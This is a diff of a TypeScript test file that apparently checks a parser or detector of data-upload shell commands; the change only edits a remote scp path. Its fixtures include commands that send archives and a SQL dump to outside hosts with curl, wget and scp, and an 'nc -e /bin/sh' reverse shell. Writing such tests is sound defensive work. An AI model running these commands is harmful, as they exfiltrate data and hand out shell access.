@@ -22,7 +22,7 @@ const sent: readonly (readonly [string, Upload['what'], Upload['host'], Upload['
   ['tar czf - -C /srv build data | curl -T - http://203.0.113.9/x', ['/srv/build', '/srv/data'], '203.0.113.9', '80'],
   ['wget -q --post-file=/tmp/d.sql http://drop.example.net:81/', ['/tmp/d.sql'], 'drop.example.net', '81'],
   [
-    'scp -P 2222 -i /tmp/k /tmp/a.tgz /tmp/b.tgz root@198.51.100.7:/root/',
+    'scp -P 2222 -i /tmp/k /tmp/a.tgz /tmp/b.tgz root@198.51.100.7:/srv/in/',
     ['/tmp/a.tgz', '/tmp/b.tgz'],
     '198.51.100.7',
     '2222',
@@ -45,7 +45,7 @@ test.each([
   'curl -s http://203.0.113.89/x -o /tmp/x',
   'curl -d user=bob -d pass=1 https://login.example.com',
   'wget -q https://paste.example.net/raw/xyz -O /tmp/x.tgz',
-  'scp root@198.51.100.7:/root/a /tmp/a',
+  'scp root@198.51.100.7:/srv/in/a /tmp/a',
   'rsync -a rsync://mirror.example.com/x /srv/x',
   'nc -lvp 4444 < /tmp/answer',
   'nc -e /bin/sh 203.0.113.89 4444',
